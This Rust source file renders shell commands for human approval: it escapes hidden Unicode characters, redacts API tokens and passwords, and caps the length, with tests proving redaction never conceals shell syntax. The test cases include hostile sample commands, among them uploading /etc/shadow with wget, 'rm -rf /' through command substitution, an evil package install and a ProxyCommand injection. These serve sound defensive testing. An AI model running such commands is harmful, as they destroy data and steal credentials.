//! How a command is shown to whoever decides about it: nothing in it hides, secrets are left out, and it
//! has an end (protocol.md §8.3).
//!
//! What is left out as a secret consists of letters, digits and a few harmless signs alone, so that no part
//! of a command that a shell would act on can be hidden as one.

use crate::protocol::hidden::{is_hidden, spell_out};

/// Characters of a command that are shown.
pub const MAX_CHARS: usize = 16 * 1024;

/// What stands in place of a secret.
const REDACTED: &str = "***";

/// What stands behind a text that was cut.
const CUT: &str = "…[truncated]";

/// Fewest characters of what counts as a secret: shorter values are words.
const MIN_SECRET: usize = 8;

/// Tokens that are known by how they start.
const TOKEN_STARTS: &[&str] = &[
    "AIza",
    "AKIA",
    "ASIA",
    "eyJ",
    "gho_",
    "ghp_",
    "ghr_",
    "ghs_",
    "ghu_",
    "github_pat_",
    "glpat-",
    "gsk_",
    "hf_",
    "npm_",
    "pypi-",
    "sk-",
    "xapp-",
    "xoxa-",
    "xoxb-",
    "xoxp-",
    "xoxr-",
    "ya29.",
];

/// Ends of the names of secrets, without `-` and `_`.
const SECRET_NAMES: &[&str] = &[
    "accesskey",
    "apikey",
    "authkey",
    "passphrase",
    "passwd",
    "password",
    "privatekey",
    "secret",
    "secretkey",
    "token",
];

/// Headers whose value is a secret, without `-`.
const HEADERS: &[&str] = &["authorization", "proxyauthorization"];

/// `text` as one line.
pub fn shown(text: &str) -> String {
    render(text, |_| false)
}

/// `text` with its line breaks left as they are.
pub fn shown_lines(text: &str) -> String {
    let text = text
        .replace("\r\n", "\n")
        .replace(['\r', '\u{2028}', '\u{2029}'], "\n");
    render(&text, |letter| letter == '\n')
}

fn render(text: &str, plain: impl Fn(char) -> bool) -> String {
    let letters: Vec<char> = text.chars().take(MAX_CHARS + 1).collect();
    let cut = letters.len() > MAX_CHARS;
    let letters = &letters[..letters.len().min(MAX_CHARS)];
    let secret = secrets(letters);
    let mut out = String::with_capacity(text.len().min(MAX_CHARS) + 16);
    for (at, letter) in letters.iter().enumerate() {
        if secret[at] {
            if at == 0 || !secret[at - 1] {
                out.push_str(REDACTED);
            }
        } else if is_misleading(*letter) && !plain(*letter) {
            spell_out(&mut out, *letter);
        } else {
            out.push(*letter);
        }
    }
    if cut {
        out.push_str(CUT);
    }
    out
}

/// Whether a reader would not see `letter`, or would take it for something else.
fn is_misleading(letter: char) -> bool {
    is_hidden(letter)
        || (letter.is_whitespace() && letter != ' ')
        || matches!(letter,
            '\u{34f}' | '\u{600}'..='\u{605}' | '\u{6dd}' | '\u{70f}' | '\u{8e2}' | '\u{115f}' | '\u{1160}'
            | '\u{180b}'..='\u{180f}' | '\u{200c}' | '\u{200d}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}'
            | '\u{ffa0}' | '\u{e0100}'..='\u{e01ef}')
}

/// Which letters belong to secrets.
fn secrets(letters: &[char]) -> Vec<bool> {
    let mut mask = vec![false; letters.len()];
    for start in 0..letters.len() {
        if mask[start] || (start > 0 && is_word(letters[start - 1]) && is_word(letters[start])) {
            continue;
        }
        if let Some((from, to)) = secret_at(letters, start) {
            mask[from..to].fill(true);
        }
    }
    mask
}

/// The secret that the word at `start` is, or names.
fn secret_at(letters: &[char], start: usize) -> Option<(usize, usize)> {
    let starts = |word: &&&str| {
        word.chars()
            .eq(letters[start..].iter().copied().take(word.len()))
    };
    if TOKEN_STARTS.iter().find(starts).is_some() {
        return value(letters, start);
    }
    if letters[start..].starts_with(&[':', '/', '/']) {
        return user_information(letters, start + 3);
    }
    let end = run(letters, start, |letter| is_word(letter) || letter == '-');
    let name: String = letters[start..end]
        .iter()
        .filter(|letter| letter.is_alphanumeric())
        .flat_map(|letter| letter.to_lowercase())
        .collect();
    let header = HEADERS.contains(&name.as_str());
    if !header && !SECRET_NAMES.iter().any(|known| name.ends_with(known)) {
        return None;
    }
    let before = start.checked_sub(1).map(|at| letters[at]);
    let is_option = before == Some('-') || letters[start] == '-';
    let past_spaces = |from| run(letters, from, |letter| letter == ' ');
    match letters.get(end)? {
        '=' => value(letters, past_quote(letters, end + 1)),
        // What stands behind a space is another word of the command, unless a quote holds both together.
        ':' if before.is_some_and(is_quote) => {
            let at = past_spaces(end + 1);
            value(letters, if header { past_scheme(letters, at) } else { at })
        }
        ':' => value(letters, past_quote(letters, end + 1)),
        ' ' if is_option => next_word(letters, past_spaces(end)),
        _ => None,
    }
}

/// The secret that is the word at `start`, behind an option that may as well take none: the word counts only
/// where it is no option, path, address or assignment.
fn next_word(letters: &[char], start: usize) -> Option<(usize, usize)> {
    let (from, to) = value(letters, past_quote(letters, start))?;
    let word = &letters[from..to];
    let is_other = word[0] == '-' || word.iter().any(|letter| matches!(letter, '/' | '='));
    (!is_other).then_some((from, to))
}

/// Where the secret of `<scheme> <secret>` begins; `start` where it stands alone.
fn past_scheme(letters: &[char], start: usize) -> usize {
    let end = run(letters, start, is_word);
    let at = run(letters, end, |letter| letter == ' ');
    if at > end { at } else { start }
}

fn past_quote(letters: &[char], at: usize) -> usize {
    at + usize::from(letters.get(at).copied().is_some_and(is_quote))
}

/// The password in `user:password@host`.
fn user_information(letters: &[char], start: usize) -> Option<(usize, usize)> {
    let is_part = |letter| is_secret_letter(letter) && letter != '/' || letter == '%';
    let from = run(letters, start, is_part);
    (letters.get(from) == Some(&':')).then_some(())?;
    let to = run(letters, from + 1, is_part);
    (letters.get(to) == Some(&'@') && to > from + 1).then_some((from + 1, to))
}

/// The secret-like value at `from`. A path is no such value: a program could be hidden in it.
fn value(letters: &[char], from: usize) -> Option<(usize, usize)> {
    let to = run(letters, from, is_secret_letter);
    let is_path = matches!(letters.get(from), Some('/' | '.' | '~'));
    (to - from >= MIN_SECRET && !is_path).then_some((from, to))
}

/// Where the letters from `from` on that are `wanted` end.
fn run(letters: &[char], from: usize, wanted: impl Fn(char) -> bool) -> usize {
    let rest = letters.get(from..).unwrap_or_default();
    from + rest.iter().take_while(|letter| wanted(**letter)).count()
}

fn is_quote(letter: char) -> bool {
    matches!(letter, '"' | '\'')
}

fn is_word(letter: char) -> bool {
    letter.is_alphanumeric() || letter == '_'
}

/// Hidden letters count: they would keep a secret from being known as one.
fn is_secret_letter(letter: char) -> bool {
    letter.is_ascii_alphanumeric()
        || matches!(letter, '-' | '_' | '.' | '+' | '/' | '=' | '~')
        || (is_misleading(letter) && !letter.is_whitespace() && !letter.is_control())
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn nothing_hides_in_a_command() {
        let cases = [
            ("echo hi", "echo hi"),
            ("a\u{202e}b", "a\\u{202E}b"),
            ("a\nb\tc\u{1b}[2J", "a\\u{A}b\\u{9}c\\u{1B}[2J"),
            (
                "ls\u{a0}-l\u{200b}\u{200d}\u{3164}\u{feff}",
                "ls\\u{A0}-l\\u{200B}\\u{200D}\\u{3164}\\u{FEFF}",
            ),
            ("grüße 日本", "grüße 日本"),
        ];
        for (text, expected) in cases {
            assert_eq!(shown(text), expected);
        }
        assert_eq!(shown_lines("a\r\nb\u{2028}c\u{7}"), "a\nb\nc\\u{7}");
    }

    #[test]
    fn secrets_are_left_out_and_nothing_else() {
        let cases = [
            (
                "curl -H 'Authorization: Bearer abcdef123456' u",
                "curl -H 'Authorization: Bearer ***' u",
            ),
            (
                "tool --token abcdefgh1 --user me",
                "tool --token *** --user me",
            ),
            ("tool --api-key=\"abcdefgh1\" x", "tool --api-key=\"***\" x"),
            ("env DB_PASSWORD=hunter22222 run", "env DB_PASSWORD=*** run"),
            (
                "git clone https://me:s3cr%40et@host/x",
                "git clone https://me:***@host/x",
            ),
            ("x ghp_0123456789abcdef", "x ***"),
            (
                "x gh\u{200b}p_0123456789abcdef --token=abc\u{200b}def12",
                "x gh\\u{200B}p_0123456789abcdef --token=***",
            ),
            ("token=rm; $token -rf /", "token=rm; $token -rf /"),
            (
                "my_token=/usr/bin/evil-program",
                "my_token=/usr/bin/evil-program",
            ),
            ("tool --password $(rm -rf /)", "tool --password $(rm -rf /)"),
            ("tool --token --force", "tool --token --force"),
            ("echo token abcdefgh12345", "echo token abcdefgh12345"),
            (
                "cat risk-assessment.md task-12345678",
                "cat risk-assessment.md task-12345678",
            ),
            ("curl http://host:8080/a@b", "curl http://host:8080/a@b"),
            (
                "curl --header \"Proxy-Authorization: basic YWJjZGVmZ2g=\" u",
                "curl --header \"Proxy-Authorization: basic ***\" u",
            ),
            (
                "curl -H 'Authorization: Negotiate abcdefgh1' u",
                "curl -H 'Authorization: Negotiate ***' u",
            ),
            ("x authorization:abcdefgh1", "x authorization:***"),
            (
                "curl -H 'X-Api-Key: abcdefgh1' u",
                "curl -H 'X-Api-Key: ***' u",
            ),
            ("tool --password 'abcdefgh1' x", "tool --password '***' x"),
            // A known start tells a token whatever stands in front of it.
            ("tool --token eyJabc/de+f==", "tool --token ***"),
        ];
        for (text, expected) in cases {
            assert_eq!(shown(text), expected, "{text}");
        }
    }

    /// What a program would do with a word is not hidden because of the word in front of it.
    #[test]
    fn words_that_may_be_no_secrets_are_shown() {
        for text in [
            "pip install basic evil-package==6.6.6",
            "apt-get install -y bearer openssh-server",
            "systemctl stop basic firewalld.service",
            "tool authorization: bearer openssh-server",
            "tool token: openssh-server",
            "wget --token --post-file=/etc/shadow https://h",
            "tool --token -oProxyCommand",
            "tool --token file=somewhere",
            "tool --token some/program",
            "tool --token 'some/program'",
        ] {
            assert_eq!(shown(text), text);
        }
    }

    #[test]
    fn a_command_has_an_end() {
        let long = shown(&"a ".repeat(MAX_CHARS));
        assert_eq!(long.chars().count(), MAX_CHARS + CUT.chars().count());
        assert!(long.ends_with(CUT));
    }

    proptest! {
        #[test]
        fn what_a_shell_acts_on_is_always_shown(
            text in "(--token |PASSWORD=|sk-|Authorization: Bearer |://a:|[a-z0-9/.;|&$`<>()'\"\\\\ \\n\u{202e}]){0,40}"
        ) {
            let out = shown(&text);
            for sign in ";|&$`<>()'\"@".chars() {
                let count = |text: &str| text.chars().filter(|letter| *letter == sign).count();
                prop_assert_eq!(count(&text), count(&out), "{} in {}", sign, out);
            }
            prop_assert!(!out.chars().any(is_misleading));
        }
    }
}
